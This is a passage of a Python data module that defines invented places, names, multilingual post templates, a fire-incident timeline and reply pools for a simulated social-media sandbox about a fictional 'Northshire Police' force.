"""Hand-written text templates, names and the day's script for the Northshire scenario.

Everything here is invented for the sandbox: the force, the people, the incidents. Templates use
``{slot}`` fields that :mod:`sandbox.scenarios.generate` fills (``{force}`` becomes
``@NorthshirePolice`` on X and "Northshire Police" elsewhere, ``{hood}`` a neighbourhood name or
alias, and so on).
"""

from __future__ import annotations

from typing import Any

# --- places -----------------------------------------------------------------------------------

#: Canonical neighbourhood name -> the ways people write it (first is the canonical form).
NEIGHBOURHOODS: dict[str, tuple[str, ...]] = {
    "Byker": ("Byker",),
    "Heaton": ("Heaton",),
    "Jesmond": ("Jesmond",),
    "Walker": ("Walker",),
    "Elswick": ("Elswick",),
    "Benwell": ("Benwell",),
    "Gosforth": ("Gosforth",),
    "Kenton": ("Kenton",),
    "Fenham": ("Fenham",),
    "City Centre": ("City Centre", "town", "the toon centre"),
    "Quayside": ("Quayside", "the Quay"),
    "Westgate": ("Westgate",),
}

#: How each neighbourhood is written in running text (with "the" where people say it).
HOOD_SPOKEN: dict[str, tuple[str, ...]] = {
    **{name: (name,) for name in NEIGHBOURHOODS},
    "City Centre": ("the City Centre", "town", "town", "the toon centre", "the city centre"),
    "Quayside": ("the Quayside", "the Quayside", "Quayside", "the Quay"),
}

HOOD_TAGS: dict[str, str] = {name: "#" + name.replace(" ", "") for name in NEIGHBOURHOODS}

#: Relative chance that a post is about each neighbourhood.
HOOD_WEIGHTS: dict[str, float] = {
    "City Centre": 3.0,
    "Byker": 2.0,
    "Heaton": 1.5,
    "Jesmond": 1.5,
    "Walker": 1.5,
    "Elswick": 1.2,
    "Benwell": 1.2,
    "Gosforth": 1.2,
    "Kenton": 1.0,
    "Fenham": 1.0,
    "Quayside": 1.2,
    "Westgate": 1.0,
}

#: Landmark -> neighbourhood it is in.
LANDMARKS: dict[str, str] = {
    "Grey's Monument": "City Centre",
    "St James' Park": "Westgate",
    "the Tyne Bridge": "Quayside",
    "Byker Wall": "Byker",
    "Heaton Park": "Heaton",
}

ROADS = (
    "Scotswood Road",
    "the Coast Road",
    "Shields Road",
    "Westgate Road",
    "Jesmond Road",
    "Kenton Lane",
    "Stamfordham Road",
    "Fenham Hall Drive",
    "Pilgrim Street",
    "the Central Motorway",
    "Heaton Road",
    "Osborne Road",
)

SCHOOLS = (
    "Elswick Riverside Primary",
    "Benwell Hill Academy",
    "St Aidan's RC Primary",
    "Quayside Free School",
    "Westgate Community College",
)

OFFICERS = (
    "PC Dobson",
    "PCSO Khan",
    "Sgt Lowther",
    "PC Reid",
    "PC Okafor",
    "PCSO Brennan",
)

#: Invented people wrongly "named" online during the fire (nobody real).
FAKE_SUSPECTS = ("Lee Marsden", "Gav Tully", "Ryan Pescod", "the lad Kyle from Forge Lane")

FAR_PLACES = (
    "Gosforth",
    "Kenton",
    "Heaton",
    "Jesmond",
    "the Byker Wall",
    "the top of Westgate Road",
    "St James' Park",
    "Fenham",
    "my office window in town",
)
NEAR_PLACES = ("Elswick", "Benwell", "the Quayside", "Westgate", "Fenham", "Scotswood Road")

EMOJI: dict[str, tuple[str, ...]] = {
    "praise": ("🙏", "❤️", "👏", "💙", "🙌", "👍"),
    "complaint": ("😡", "🙄", "🤬", "😤", "👎"),
    "question": ("🤔", "🙏", "❓"),
    "crime": ("😡", "😠", "🤬", "😢", "🙄"),
    "chatter": ("😂", "🤣", "👀", "😅", "🐶", "⚽"),
    "fire": ("🔥", "😳", "😱", "🔥🔥"),
    "rumour": ("😳", "👀", "😬"),
    "worry": ("😟", "🙏", "😢"),
    "health": ("😷", "🤢", "😷"),
    "info": ("⚠️", "👇", "🔥"),
    "heroes": ("🙌", "🚒", "👏", "❤️", "🙏"),
    "support": ("🙏", "❤️", "💙", "🙏🙏"),
}

#: Emoji set (a key of EMOJI) for replies of each family; families not listed get none.
REPLY_MOODS: dict[str, str] = {
    "praise": "praise",
    "complaint": "complaint",
    "crime": "crime",
    "chatter": "chatter",
    "missing": "support",
    "missing_found": "praise",
    "byker_video": "praise",
    "event": "praise",
    "fire_force": "fire",
    "fire_public": "fire",
    "fire_video": "fire",
    "fire_fire": "heroes",
}

# --- people ------------------------------------------------------------------------------------

FIRST_NAMES = (
    "Sarah", "Gary", "Lisa", "Paul", "Michelle", "Craig", "Gemma", "Lee", "Nicola", "Steven",
    "Kelly", "Darren", "Joanne", "Mark", "Leanne", "Anthony", "Hayley", "Scott", "Claire",
    "Jordan", "Chloe", "Liam", "Amy", "Ryan", "Sophie", "Callum", "Jade", "Connor", "Megan",
    "Kieran", "Stacey", "Dean", "Rachel", "Jamie", "Laura", "Shaun", "Emma", "Adam", "Kirsty",
    "Wayne", "Pauline", "Brian", "Maureen", "Alan", "Linda", "Keith", "Susan", "Colin",
    "Margaret", "Terry", "Aisha", "Imran", "Fatima", "Bilal", "Priya", "Rajesh", "Zainab",
    "Grace", "Blessing", "Tunde", "Ngozi", "Ewan", "Niamh", "Siobhan", "Declan", "Freya",
    "Oliver", "Isla", "Harry", "Poppy", "Alfie", "Ruby", "Wei", "Mei", "Tom", "Beth", "Carl",
    "Dawn", "Stu", "Tracey",
)  # fmt: skip

SURNAMES = (
    "Robson", "Milburn", "Armstrong", "Dodds", "Bell", "Hall", "Graham", "Wilkinson", "Scott",
    "Thompson", "Brown", "Wilson", "Taylor", "Davison", "Nicholson", "Hutchinson", "Ridley",
    "Forster", "Elliott", "Heron", "Fenwick", "Laidler", "Stokoe", "Lowes", "Dixon", "Wood",
    "Walton", "Young", "Johnson", "Harrison", "Atkinson", "Kerr", "Reay", "Brady", "Kelly",
    "Murphy", "O'Neill", "Gallagher", "Hussain", "Khan", "Ahmed", "Ali", "Begum", "Patel",
    "Sharma", "Okafor", "Adeyemi", "Mensah", "Liu", "Campbell", "Murray", "Fraser", "Stewart",
    "Charlton", "Common", "Turnbull", "Hedley", "Pattinson", "Straughan", "Bainbridge",
)  # fmt: skip

NICKNAMES = (
    "Geordie Lass 💙",
    "Byker Mam",
    "Big Dave",
    "Toon Till I Die",
    "Heaton Dog Walker",
    "Jesmond Mum of 3",
    "Walker Resident",
    "Gosforth Grumbler",
    "Quayside Runner 🏃",
    "Kenton Dad",
    "Fenham Gran",
    "Westgate Wanderer",
    "Elswick Allotments",
    "the real Shearer",
    "Benwell Born & Bred",
    "NightShiftNurse",
    "CabbieOnTheToon",
    "Taxi Tony",
    "Gaz",
    "Mrs B",
)

#: Speakers of the non-English languages in the scenario.
LANG_NAMES: dict[str, tuple[str, ...]] = {
    "pl": (
        "Tomasz Nowak",
        "Agnieszka Kowalska",
        "Piotr Wiśniewski",
        "Katarzyna Lewandowska",
        "Marek Zieliński",
        "Magdalena Wójcik",
    ),
    "ar": ("Omar Haddad", "Layla Nasser", "Yusuf Mansour", "Mariam Khalil", "Nour Ibrahim"),
    "ur": ("Imran Siddiqui", "Zainab Iqbal", "Tariq Mahmood", "Saima Rashid", "Ayesha Malik"),
    "ro": ("Andrei Popescu", "Ioana Ionescu", "Mihai Stan", "Elena Dumitru", "Cristian Radu"),
    "es": ("Carlos García", "Lucía Fernández", "Javier Martín", "Sofía López", "Diego Sánchez"),
}

LANG_WEIGHTS: dict[str, float] = {"pl": 0.3, "ur": 0.2, "es": 0.2, "ar": 0.15, "ro": 0.15}

# --- non-English posts ------------------------------------------------------------------------

#: Language -> {"day": ..., "fire": ...} templates.  ``{hood}`` is always the canonical name.
FOREIGN: dict[str, dict[str, tuple[str, ...]]] = {
    "pl": {
        "day": (
            "Dziękuję policji z Northshire za pomoc dzisiaj w {hood} 👍",
            "Jak zgłosić kradzież roweru? Czekam na linii 101 już {mins} minut",
            "Znowu ktoś włamał się do szopy w {hood}. Zróbcie coś z tym!",
            "Crossy bez tablic w {hood} jeżdżą po chodnikach, ktoś w końcu zginie",
            "Czy droga na {road} jest zamknięta? Stoję w korku od pół godziny",
            "Bardzo miły policjant pomógł mojej mamie dziś rano w {hood}. Dziękujemy!",
        ),
        "fire": (
            "Ogromny pożar koło {hood}, wszędzie dym! Uważajcie na siebie",
            "Czy most Tyne Bridge jest zamknięty? Muszę odebrać dziecko ze szkoły",
            "Wielkie dzięki dla strażaków 🚒",
            "Dym doszedł już do {hood}, zamknijcie okna",
            "Korek w centrum straszny, godzinę stoję w jednym miejscu",
        ),
    },
    "ar": {
        "day": (
            "شكراً لشرطة نورثشاير على مساعدتكم اليوم في {hood} 🙏",
            "كيف يمكنني الإبلاغ عن سرقة سيارتي؟ الرقم 101 لا يجيب",
            "دراجات نارية بدون لوحات في {hood} كل ليلة، هذا خطير جداً على الأطفال",
            "هل الطريق مغلق عند {road}؟",
            "انتظرت أكثر من ساعة على الرقم 101، هذا غير مقبول",
        ),
        "fire": (
            "حريق كبير قرب {hood}، الدخان في كل مكان. انتبهوا لأنفسكم",
            "هل جسر تاين مغلق الآن؟ أحتاج أن أصل إلى المدرسة",
            "هل المدارس في إلسويك مفتوحة؟ أطفالي هناك",
            "شكراً لرجال الإطفاء على عملهم الرائع اليوم 🚒",
            "الدخان وصل إلى {hood}، هل يجب أن نغلق النوافذ؟",
        ),
    },
    "ur": {
        "day": (
            "نارتھ شائر پولیس کا شکریہ، آج {hood} میں آپ نے بہت مدد کی 🙏",
            "101 پر ایک گھنٹے سے انتظار کر رہی ہوں، کوئی جواب نہیں",
            "{hood} میں ہر رات موٹر سائیکلیں فٹ پاتھ پر چلتی ہیں، کوئی کچھ نہیں کرتا",
            "گاڑی کی چوری کی رپورٹ کیسے کروں؟ کوئی بتا سکتا ہے؟",
            "کیا {road} پر سڑک بند ہے؟",
        ),
        "fire": (
            "کوئے سائیڈ کے قریب بہت بڑی آگ لگی ہے، ہر طرف دھواں ہے",
            "کیا ٹائن برج بند ہے؟ بچوں کو اسکول سے لینا ہے",
            "فائر فائٹرز کا بہت شکریہ، اللہ سب کو محفوظ رکھے",
            "دھواں {hood} تک پہنچ گیا ہے، کیا کھڑکیاں بند رکھیں؟",
        ),
    },
    "ro": {
        "day": (
            "Mulțumesc poliției din Northshire pentru ajutorul de azi din {hood}! 👏",
            "Cum pot raporta un furt din mașină? Aștept la 101 de {mins} de minute.",
            "Iar motociclete fără număr în {hood}, în fiecare seară aceeași poveste.",
            "Știe cineva dacă drumul de pe {road} este închis?",
            "Mi-au furat bicicleta din fața casei în {hood}. Ce pot face?",
        ),
        "fire": (
            "Incendiu uriaș lângă {hood}, e fum peste tot. Aveți grijă!",
            "Podul Tyne este închis? Stau în trafic de o oră.",
            "Școlile din Elswick sunt deschise? Copilul meu e acolo.",
            "Respect pentru pompieri! 🚒",
            "Fumul a ajuns până în {hood}, închideți geamurile.",
        ),
    },
    "es": {
        "day": (
            "Gracias a la policía de Northshire por la ayuda de hoy en {hood} 👏",
            "¿Cómo denuncio un robo de bicicleta? Llevo {mins} minutos esperando en el 101",
            "Otra vez motos sin matrícula en {hood}, todas las noches lo mismo",
            "¿Alguien sabe si la carretera en {road} está cortada?",
            "Me han roto la ventanilla del coche en {hood} esta noche 😡",
        ),
        "fire": (
            "¿Alguien sabe qué se está quemando cerca de {hood}? Hay humo por todas partes",
            "¿Está cerrado el puente Tyne? Tengo que recoger a mis hijos del colegio",
            "Mucho respeto a los bomberos 🚒👏",
            "El humo ha llegado hasta {hood}, ¿hay que cerrar las ventanas?",
            "Qué caos de tráfico en el centro, una hora para cruzar el río",
        ),
    },
}

# --- background topics (top-level public posts) ------------------------------------------------

#: Topic -> spec.  ``periods`` weights: night 00-06, morning 06-10, day 10-17, evening 17-22,
#: late 22-24.  ``hoods`` restricts the neighbourhood chosen for ``{hood}``.
TOPICS: dict[str, dict[str, Any]] = {
    "praise": {
        "mood": "praise",
        "periods": (0.3, 1.0, 1.0, 1.0, 0.5),
        "answer": 0.04,
        "templates": (
            "Huge thanks to the officers who helped my mum after her fall in {hood} this morning,"
            " you were so kind {force}",
            "Thanks to the officers who came out to us in {hood} last night. Really reassuring.",
            "Shout out to {officer} in {hood}, absolute credit to {force}",
            "{force} just want to say thank you to the two officers who found my dad when he"
            " wandered off near {landmark}. Can't thank you enough",
            "Nice to see officers walking round {hood} today and actually chatting to people."
            " More of this please {force}",
            "Got my stolen bike back thanks to {force}!! Didn't think I'd ever see it again",
            "Credit where it's due, {force} were at ours within 10 mins last night.",
            "The officer who stopped to help change my tyre on {road} in the rain, you're a star. {force}",
            "Thank you {force} for sorting the lads on the bikes in {hood}, first quiet night in weeks",
            "Whoever the officer was at {landmark} helping the homeless fella with a brew this"
            " morning, proper decent. {force}",
        ),
    },
    "complaint_101": {
        "mood": "complaint",
        "periods": (0.3, 1.0, 1.0, 0.8, 0.4),
        "answer": 0.15,
        "rant": 0.25,
        "templates": (
            "Been on hold to 101 for {mins} minutes. {mins} MINUTES. What is the point {force}",
            "{force} 101 is a joke. Rang three times this morning and gave up",
            "Why does it take {mins} minutes to get through on 101?? I'm trying to report"
            " something that actually matters {force}",
            "Tried the online form, crashed. Tried 101, on hold for ages. Do you actually want"
            " people to report crime {force}?",
            "101 wait times are getting worse and worse {force}",
        ),
    },
    "complaint_slow": {
        "mood": "complaint",
        "periods": (0.3, 0.9, 1.0, 1.0, 0.6),
        "answer": 0.12,
        "rant": 0.2,
        "templates": (
            "Reported a break in {n} days ago and still nobody has come out. {force} what's the point",
            "Rang 999 when there was a fight outside ours in {hood} and it took 40 minutes for"
            " anyone to turn up {force}",
            "Still waiting for a crime number from last week {force}. Insurance won't do anything without it",
            "{force} you lot are never in {hood} when you're needed",
            "Asked for an update on my case three times now. Nothing. {force}",
        ),
    },
    "complaint_parking": {
        "mood": "complaint",
        "periods": (0.1, 1.5, 0.8, 0.6, 0.1),
        "answer": 0.08,
        "rant": 0.15,
        "templates": (
            "Cars parked on the pavement outside {school} again, someone's kid will get hurt."
            " {force} when are you going to do something?",
            "School run parking on our street in {hood} is a nightmare every single morning {force}",
            "Someone's parked across my drive in {hood} AGAIN. Can't get to work. {force}",
            "{force} is it even illegal to park on double yellows any more? Loads on {road}",
        ),
    },
    "complaint_rude": {
        "mood": "complaint",
        "periods": (0.3, 0.8, 1.0, 0.8, 0.4),
        "answer": 0.2,
        "rant": 0.15,
        "templates": (
            "The officer I spoke to at {hood} was so rude. Made me feel like I was wasting his time. {force}",
            "Really disappointed with how I was spoken to by one of your officers today {force}."
            " Is that how you treat victims?",
            "{force} one of your lot just told me to 'get a better lock' when I reported my bike nicked. Helpful",
        ),
    },
    "question": {
        "mood": "question",
        "periods": (0.4, 1.0, 1.0, 0.9, 0.5),
        "answer": 0.35,
        "templates": (
            "{force} how do I report a car that's been abandoned on our street in {hood}?",
            "{force} what's the best way to report drug dealing without giving my name?",
            "How do I report a scam text to {force}? Pretending to be the bank",
            "{force} is there a number for non emergencies that isn't 101?",
            "Does anyone know how to get a crime number from {force} for insurance?",
            "{force} do you still do bike marking? Where's the next one?",
            "{force} how do I get hold of my local PCSO in {hood}?",
            "Found a purse near {landmark}, where do I hand it in {force}?",
            "{force} I've been sent a video of someone being threatened, how do I report it without sharing it?",
            "{force} is the police station in {hood} still open to the public?",
        ),
    },
    "road_question": {
        "mood": "question",
        "periods": (0.3, 1.6, 0.8, 1.0, 0.3),
        "answer": 0.3,
        "templates": (
            "{roads} is the road at {road} closed? Sat here for ages",
            "Is {road} closed?? Police cars blocking it {roads}",
            "{roads} any idea what's going on on {road}? Nothing moving",
            "Accident on {road}? Traffic backed right up to {hood} {roads}",
            "{roads} is there a closure near {landmark}? Sat nav sending me everywhere",
        ),
    },
    "bikes": {
        "mood": "crime",
        "periods": (1.0, 0.3, 0.6, 1.6, 1.2),
        "answer": 0.12,
        "rant": 0.2,
        "hoods": ("Walker", "Walker", "Walker", "Byker", "Benwell"),
        "templates": (
            "Off-road bikes flying up and down in {hood} AGAIN. No helmets, no plates. {force}",
            "Someone is going to get killed by these off-road bikes in {hood} {force}",
            "{force} three lads on scramblers going round the park in {hood} right now",
            "The bikes in {hood} every night are driving me mad. Rang it in, nothing. {force}",
            "Kids on off-road bikes nearly took my dog out on the path in {hood} {force}",
        ),
    },
    "sheds": {
        "mood": "crime",
        "periods": (0.8, 1.4, 0.8, 0.6, 0.6),
        "answer": 0.15,
        "hoods": ("Gosforth", "Gosforth", "Gosforth", "Kenton", "Jesmond"),
        "templates": (
            "Shed broken into overnight in {hood}. Lawnmower and bikes gone. Third on our street this month {force}",
            "{force} anyone else in {hood} had their shed done last night? Padlock cut clean off",
            "Garage broken into in {hood}, power tools taken. Have reported. Keep an eye out people {force}",
            "Caught someone on the doorbell camera trying sheds in {hood} at 3am {force}",
        ),
    },
    "car_crime": {
        "mood": "crime",
        "periods": (0.6, 1.6, 0.8, 0.7, 0.5),
        "answer": 0.12,
        "hoods": ("Jesmond", "Jesmond", "Jesmond", "Heaton", "Fenham"),
        "templates": (
            "Woke up to my car window smashed in {hood}. Nothing even in it {force}",
            "Catalytic converter stolen off my car in {hood} overnight {force}. Sick of it",
            "{force} someone going round trying car doors in {hood}, caught on camera",
            "Another car broken into on our street in {hood}. That's four this week {force}",
            "Keyless car theft in {hood} last night, neighbour's car just gone {force}",
        ),
    },
    "asb": {
        "mood": "crime",
        "periods": (1.5, 0.3, 0.7, 1.4, 1.6),
        "answer": 0.08,
        "rant": 0.15,
        "templates": (
            "Group of teenagers throwing fireworks at cars in {hood}. Tonight of all nights {force}",
            "Youths hanging round the shops in {hood} again shouting at people {force}",
            "Massive fight outside a bar in {hood}, {force} are here now",
            "Loud party in {hood} still going at 2am, rang {force} twice",
            "Someone's smashed the bus shelter in {hood} again {force}",
            "Drug dealing in broad daylight in {hood}, everyone can see it apart from {force}",
        ),
    },
    "chatter": {
        "mood": "chatter",
        "periods": (0.8, 0.8, 1.0, 1.0, 1.0),
        "templates": (
            "Police helicopter over {hood} again, anyone know what's going on? #Northshire",
            "Police cars flying down {road} with sirens on, anyone know? #Northshire",
            "My lad wants to be a police officer when he grows up, he waved at a van in {hood}"
            " and they flashed the lights 😂 {force}",
            "The {force} police dog calendar is out, take my money 🐶",
            "Is the police open day at Heaton Park still on this weekend? {force}",
            "Why are there so many police at {landmark} today? #Northshire",
            "Northshire Police horses out in {hood} this morning, the kids loved them",
            "This traffic on {road} is killing me #Northshire",
            "That new burger place in {hood} is fire 🔥🔥 #Northshire",
            "Smashed my driving test today!! Stay off the roads people 😂 #Northshire",
            "What a bomb of a goal at St James' Park last night #Northshire",
            "Northshire cops on Segways at {landmark}, didn't know that was a thing",
            "Anyone else think Northshire Police should bring back the bobby on the beat?",
            "Watching {force} on that telly programme, didn't know it was filmed in {hood}",
            "Lovely crisp morning in {hood} #Northshire",
        ),
    },
    "link": {
        "mood": "chatter",
        "periods": (0.2, 1.0, 1.0, 0.8, 0.3),
        "templates": (
            "{force} any update on this? {chron}",
            "Have you seen this about {hood}? {chron} #Northshire",
            "Interesting read on knife crime in #Northshire {chron}",
            "{force} is this true?? {chron}",
        ),
    },
}

#: Incident categories for top-level posts about the fire.
FIRE_TOPICS: dict[str, dict[str, Any]] = {
    "sighting": {
        "mood": "fire",
        "rant": 0.03,
        "templates": (
            "Loads of smoke over {near}, anyone know what's going on? {force}",
            "Sirens everywhere in Elswick right now 🚒🚒🚒 #Northshire",
            "Massive black smoke cloud over the Quay, can see it from {far} #Northshire",
            "You can see the flames from the Tyne Bridge 😳 #Northshire",
            "Ash falling on the cars in {near}. What is burning?? {force}",
            "Video of the smoke from {far} {tco} #Northshire",
            "That is a LOT of fire engines going down Scotswood Road #Northshire",
            "Just heard a massive bang from down by the river in Elswick {force}",
            "Warehouse fire by the river, the smoke is unreal. Stay away from Elswick #Northshire",
            "Smoke drifting right across {far} now. {force}",
            "Drone footage of the fire near the Quayside {tco} #Northshire #Quayside",
            "Whole sky has gone orange over Elswick #Northshire",
        ),
    },
    "rumour": {
        "mood": "rumour",
        "templates": (
            "Heard it's the old paint warehouse on Forge Lane, gas cylinders going off #Northshire",
            "Someone said there's people trapped inside?? {force} is that true",
            "My mate says kids set it on fire messing about #Northshire",
            "Apparently the whole of Elswick is being evacuated?? {force}",
            "RUMOUR: the Metro's stopped because of the smoke. Anyone confirm? #Northshire",
            "Heard there's asbestos in the smoke, is that right {force}?",
            "People saying it's a terror attack, is that true {force}?",
            "Someone on Facebook says 3 people are in hospital? #Northshire",
            "Heard the fire has jumped to the next unit along #Northshire",
        ),
    },
    "roads": {
        "mood": "question",
        "templates": (
            "{force} is the Tyne Bridge shut?",
            "{roads} which roads are closed? Trying to get to {far}",
            "Is the Swing Bridge open? {roads}",
            "{roads} can I still get from the Quayside to Gateshead?",
            "Is Scotswood Road closed both ways?? {roads}",
            "Are the buses still going through Elswick? {force}",
            "{force} is the Tyne Bridge closed or not? Getting told different things",
        ),
    },
    "traffic": {
        "mood": "complaint",
        "rant": 0.3,
        "templates": (
            "Sat on Scotswood Road for {mins} MINUTES. Why wasn't there a diversion sign?? {roads}",
            "Absolute chaos in town, nothing moving at all #Northshire",
            "Took me an hour to get from {far} to the Quayside. Shambles {roads}",
            "Gridlock on the Tyne Bridge because everyone's slowing down to film the fire 🙄 #Northshire",
            "The buses have just given up. Walking home from town #Northshire",
            "Whoever decided to close the roads at rush hour without telling anyone, well done {roads}",
            "{roads} could you not have put the diversion signs up BEFORE closing the road",
        ),
    },
    "schools": {
        "mood": "worry",
        "templates": (
            "Are the schools in Elswick shut? My son's at {school} {force}",
            "{force} do we need to collect the kids early? School hasn't said anything",
            "Kids kept indoors at {school} because of the smoke, anyone else heard? #Northshire",
            "Is it safe to walk to {school} for pick up? {force}",
            "{force} can parents get to {school}? Road is blocked",
        ),
    },
    "health": {
        "mood": "health",
        "templates": (
            "Smoke coming into the house in {near}, should we close the windows? {force}",
            "My asthma is terrible with this smoke #Northshire",
            "Is the smoke toxic?? Can smell it all the way in {far} {force}",
            "Bring your washing in if you're anywhere near Elswick #Northshire",
            "Keep your dogs in, the smoke is awful round {near} #Northshire",
        ),
    },
    "praise": {
        "mood": "heroes",
        "templates": (
            "Massive respect to the firefighters, what a job they're doing 🙌🚒 #Northshire",
            "Thanks to the officers directing traffic at the Quay in the rain {force}",
            "Fire crews absolutely smashing it down in Elswick. Heroes #Northshire",
            "Credit to {force} for the quick updates today",
            "The police and fire service have been brilliant today #Northshire",
        ),
    },
    "worry": {
        "mood": "worry",
        "templates": (
            "My dad works in one of the units near Forge Lane and I can't get hold of him 😟 {force}",
            "My cat is out somewhere near Elswick, please let her be ok #Northshire",
            "Anyone know if the flats on Scotswood Road are being evacuated? {force}",
            "My nana lives two streets from the fire and won't answer her phone #Northshire",
        ),
    },
    "info": {
        "mood": "info",
        "templates": (
            "{force} say avoid the area around Elswick and keep windows shut. Please share #Northshire",
            "Chronicle live blog on the fire: {chron} #Northshire",
            "Fire service say 12 engines at the warehouse fire in Elswick #Northshire",
            "Council say the schools are open and the kids are safe, don't all drive down #Northshire",
            "Roads shut around Elswick and the Quayside, Tyne Bridge still open #Northshire",
        ),
    },
    "fade": {
        "mood": "heroes",
        "templates": (
            "Still smoke over the Quay but looks calmer now #Northshire",
            "Traffic finally moving on the Tyne Bridge #Northshire",
            "Well done everyone, no one hurt thank god #Northshire",
            "Smell of smoke all over {far} still #Northshire",
            "Took me {n} hours to get home from town tonight 🙄 #Northshire",
            "Any news on what caused the fire? {force}",
            "Can still see the glow from {far} #Northshire",
            "Heroes, every single one of them. Thank you fire crews and {force}",
            "{force} is Forge Lane open yet?",
        ),
    },
}

#: Per-minute weights of the fire categories: (from HH:MM, {category: weight}).
FIRE_PHASES: tuple[tuple[str, dict[str, float]], ...] = (
    ("14:30", {"sighting": 6, "roads": 2, "rumour": 1, "worry": 0.5, "health": 0.5}),
    (
        "15:05",
        {
            "sighting": 3, "rumour": 2, "roads": 2.5, "traffic": 1.5, "schools": 1.5,
            "health": 1.2, "praise": 1.0, "worry": 0.7, "info": 1.0,
        },
    ),
    (
        "16:15",
        {
            "sighting": 2.5, "rumour": 1.5, "roads": 2.0, "traffic": 3.0, "schools": 0.8,
            "health": 1.2, "praise": 1.5, "worry": 0.4, "info": 1.0,
        },
    ),
    ("17:30", {"fade": 3, "traffic": 1.5, "praise": 2, "health": 1, "rumour": 0.6, "roads": 1}),
    ("19:00", {"fade": 4, "praise": 1.5, "health": 0.6, "rumour": 0.4, "sighting": 0.5}),
)  # fmt: skip

# --- replies -----------------------------------------------------------------------------------

#: Replies keyed by the topic of the post they answer ("generic" when nothing fits).
REPLIES: dict[str, tuple[str, ...]] = {
    "generic": (
        "Same here",
        "This ^^",
        "Absolutely this",
        "Couldn't agree more",
        "Typical",
        "Not surprised tbh",
        "Ridiculous",
        "Hope it gets sorted",
        "Did you report it?",
        "Exactly what I was thinking",
        "Good to know, thanks",
        "That's awful",
        "Sending love x",
        "Well said",
        "Honestly don't know what the answer is",
        "Every week it's something",
        "Glad someone said it",
        "Worse than ever round here",
        "Not just you",
        "Agreed 100%",
        "Mad isn't it",
        "Following",
        "Is this still going on?",
        "Been saying this for years",
        "You're not wrong",
        "That's shocking that",
    ),
    "praise": (
        "Lovely to hear ❤️",
        "Agree, they were brilliant with us too",
        "Nice to see some positive stuff for once",
        "Good people 👏",
        "Our local team are great too",
        "So glad your mum's ok x",
    ),
    "complaint": (
        "Same here, gave up in the end",
        "It's not the call handlers' fault, they're understaffed",
        "Did you try the online form? Quicker",
        "Absolutely shocking",
        "Welcome to 2026",
        "Complain to the PCC, it's the only thing that works",
        "Happened to my mam too",
        "Write to your MP",
    ),
    "question": (
        "Ring 101 or do it online, takes 10 mins",
        "You can report it on the website, it's quicker than 101",
        "Following, want to know this too",
        "Think you can DM them",
        "Crimestoppers if you don't want to give your name",
        "Ask the council too, they deal with some of it",
    ),
    "crime": (
        "Did you report it?",
        "Same happened to us last month",
        "Report it to 101 so it gets logged",
        "Disgraceful",
        "Ring 101, they need to know where it's happening",
        "Get a camera, it's the only thing that helps",
        "Every single night round here",
        "Sorry to hear that, hope they catch them",
    ),
    "chatter": (
        "😂😂",
        "Ha, love it",
        "Same",
        "No idea mate",
        "Saw that too",
        "Proper made me laugh",
    ),
    "rumour_benwell": (
        "Is this confirmed?",
        "I heard it was a knife fight, 2 people in hospital",
        "My neighbour said there was blood everywhere",
        "Don't spread stuff if you don't know",
        "Police everywhere on Adelaide Terrace earlier",
        "Hope whoever it is is ok",
        "Keeping the kids in today",
    ),
    "rumour_kenton": (
        "Saw them too, loads of vans",
        "Probably a warrant, they do them early",
        "Scary when you see the guns",
    ),
    "roads": (
        "How long is it going to be shut?",
        "Is there a diversion?",
        "Thanks for the heads up",
        "Been sat here for 40 minutes already 🙄",
        "Is it clear yet?",
        "Thanks, going the other way",
    ),
    "drinkdrive": (
        "Good. No excuse for it.",
        "Zero tolerance 👏",
        "How about catching the burglars instead of pulling over people going to work?",
        "The morning after catches so many people out, be careful folks",
        "Name and shame them",
        "Lost my brother to a drink driver. Please don't do it.",
        "Will you be on the Coast Road? Asking for a friend 😂",
        "Good, hope you catch loads",
    ),
    "appeal": (
        "Shared",
        "Shared 👍",
        "Hope you find who did this",
        "Shared on our street's group",
        "Terrible. Hope he's ok",
        "Why is this only being posted now, it was Wednesday?",
        "There's CCTV all round Grey's Monument, surely",
        "Town's not safe at night any more",
    ),
    "missing": (
        "Shared 🙏",
        "Shared, praying she's home safe ❤️",
        "Shared in the Fenham mams group",
        "Please come home Kayla x",
        "Shared. Hope she's found soon",
        "Thought I saw a girl in a pink coat near {landmark} about 1pm, have rung 101",
        "Shared x",
        "Praying for her family",
        "Sharing 🙏🙏",
    ),
    "missing_found": (
        "Brilliant news ❤️",
        "Thank god",
        "So glad she's safe",
        "Great news, well done everyone who shared",
        "Best news today after everything else",
        "Phew ❤️",
    ),
    "byker_video": (
        "Great to put faces to names 👍",
        "{officer} is brilliant, helped us loads with the lads on the bikes",
        "Can you do one for Walker next please",
        "Would be nice to actually see them round the Byker Wall estate after dark",
        "Lovely video, well done team",
        "More of this please, proper community policing",
        "Nice one, but who do we ring when it's kicking off at 11pm?",
    ),
    "bikes_op": (
        "About time!",
        "Two down, twenty to go",
        "Crush them 👏",
        "Brilliant, they're a menace",
        "They'll have new ones by tonight",
        "Please do Benwell next",
    ),
    "sheds": (
        "Had mine done last month, get a decent lock folks",
        "Will pop in, thanks",
        "Is there anything for Kenton too?",
        "Good idea, the alarms really work",
        "Too little too late for us",
    ),
    "event": (
        "The kids will love this",
        "Will the horses be there? 🐴",
        "See you there!",
        "Is it on if it rains?",
        "Brilliant idea",
    ),
    "rumour_rebuttal": (
        "Thanks for clearing that up",
        "So what were all the police there for then?",
        "Glad nobody was hurt",
        "People need to stop sharing rubbish",
        "Why did it take you till now to say?",
        "Good, thank you",
    ),
    "fire_force": (
        "Stay safe everyone",
        "Thank you for the update",
        "What's on fire?",
        "Is the Tyne Bridge closed?",
        "Is it safe to open the windows in Fenham?",
        "Are the schools ok?",
        "Thank you, hope everyone's ok",
        "Can see it from Gosforth",
        "Is anyone hurt?",
        "Why are the roads not closed yet??",
        "What about the Metro?",
    ),
    "fire_roads": (
        "How long will the roads be shut?",
        "Is the Tyne Bridge still open?",
        "Thanks, had no idea",
        "Sat in this for an hour already",
        "Which way is best to get to Gateshead?",
        "Should have closed them sooner",
        "Thanks for the update 👍",
    ),
    "fire_update": (
        "Thank god nobody's hurt",
        "Thanks for keeping us updated",
        "Massive thanks to the fire crews",
        "What caused it?",
        "People naming names need to stop",
        "Still loads of smoke in Benwell",
        "When will the roads reopen?",
        "Good to hear",
    ),
    "fire_fire": (
        "Heroes 🚒",
        "Thank you for everything you do",
        "Stay safe crews",
        "Amazing work",
        "Is the smoke dangerous?",
        "Legends, every one of you",
    ),
    "fire_news": (
        "Scary stuff",
        "Hope nobody's hurt",
        "Glad the Chronicle is on it",
        "Clickbait headline but ok",
        "Any more info?",
    ),
